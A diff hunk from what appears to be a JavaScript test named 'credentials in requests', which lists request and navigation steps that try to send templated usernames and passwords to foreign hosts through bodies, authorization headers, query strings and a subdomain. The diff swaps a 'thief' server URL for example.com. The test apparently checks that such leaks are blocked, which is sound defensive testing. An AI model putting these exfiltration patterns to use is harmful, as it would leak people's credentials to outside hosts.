@@ -46,7 +46,7 @@ t.test('credentials in requests', async (t) => {
       { action: 'request', url: there, body },
       { action: 'request', url: there, headers: { authorization: 'Basic {{ credentials.password }}' } },
       { action: 'request', url: `${there}?p={{credentials.password}}` },
-      { action: 'request', url: `${thief.url.replace('//', '//{{credentials.username}}.')}/` },
+      { action: 'request', url: 'http://{{credentials.username}}.example.com/' },
       { action: 'navigate', url: `${there}?p={{credentials.password}}` },
     ];
     for (const step of foreign) {
